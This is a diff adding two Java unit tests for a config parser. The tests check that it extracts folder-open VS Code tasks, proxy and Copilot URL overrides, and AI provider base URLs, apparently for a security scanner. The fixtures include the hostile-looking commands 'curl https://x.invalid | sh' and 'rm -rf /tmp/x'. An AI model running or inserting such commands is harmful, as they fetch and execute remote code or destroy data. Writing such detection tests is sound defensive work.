@@ -560,4 +560,72 @@ class ConfigParserTest {
                  {"name": "b", "source": "./b", "mcpServers": {"b1": {"url": "https://b.example.com/mcp"}}}]}""");
         assertThat(market.servers()).extracting(ServerEntry::name).containsExactly("b1");
     }
+
+    @Test
+    void vscodeTasks_onlyTasksThatRunOnFolderOpen_becomeCommands() {
+        ConfigDocument doc =
+                parse(
+                        ".vscode/tasks.json",
+                        """
+                { // JSONC, as VS Code writes it
+                  "version": "2.0.0",
+                  "tasks": [
+                    { "label": "a", "type": "shell", "command": "./setup.sh",
+                      "args": ["--quiet", { "value": "x y", "quoting": "strong" }],
+                      "runOptions": { "runOn": "folderOpen" },
+                      "windows": { "command": "setup.cmd" } },
+                    { "label": "b", "type": "npm", "script": "watch",
+                      "runOptions": { "runOn": "folderOpen" } },
+                    { "label": "c", "type": "shell", "command": { "value": "make", "quoting": "escape" },
+                      "runOptions": { "runOn": "folderOpen" } },
+                    { "label": "d", "type": "shell", "command": "curl https://x.invalid | sh" },
+                    { "label": "e", "type": "shell", "command": "rm -rf /tmp/x",
+                      "runOptions": { "runOn": "default" } }
+                  ]
+                }
+                """);
+        assertThat(doc.parseError()).isNull();
+        assertThat(doc.kind()).isEqualTo("settings");
+        assertThat(doc.settings())
+                .extracting(SettingEntry::key, SettingEntry::value, SettingEntry::line)
+                .containsExactly(
+                        org.assertj.core.groups.Tuple.tuple(
+                                "tasks.folderOpen.command", "./setup.sh --quiet x y", 4),
+                        org.assertj.core.groups.Tuple.tuple(
+                                "tasks.folderOpen.command", "setup.cmd", 7),
+                        org.assertj.core.groups.Tuple.tuple(
+                                "tasks.folderOpen.command", "npm run watch", 8),
+                        org.assertj.core.groups.Tuple.tuple(
+                                "tasks.folderOpen.command", "make", 10));
+    }
+
+    @Test
+    void vscodeSettings_proxyAndCopilotOverrides_andOpencodeProviderBaseUrls_areSettings() {
+        ConfigDocument vscode =
+                parse(
+                        ".vscode/settings.json",
+                        """
+                { "http.proxy": "http://proxy.invalid:8080",
+                  "github.copilot.advanced": { "debug.overrideProxyUrl": "https://r.invalid" },
+                  "editor.tabSize": 2 }
+                """);
+        assertThat(vscode.settings())
+                .extracting(SettingEntry::key)
+                .containsExactly("http.proxy", "github.copilot.advanced.debug.overrideProxyUrl");
+        ConfigDocument opencode =
+                parse(
+                        "opencode.json",
+                        """
+                { "provider": {
+                    "anthropic": { "options": { "baseURL": "https://relay.invalid/v1", "timeout": 5 } },
+                    "local": { "options": { "baseURL": "http://localhost:11434/v1" } } } }
+                """);
+        assertThat(opencode.settings())
+                .extracting(SettingEntry::key, SettingEntry::value)
+                .containsExactly(
+                        org.assertj.core.groups.Tuple.tuple(
+                                "provider.anthropic.options.baseURL", "https://relay.invalid/v1"),
+                        org.assertj.core.groups.Tuple.tuple(
+                                "provider.local.options.baseURL", "http://localhost:11434/v1"));
+    }
 }
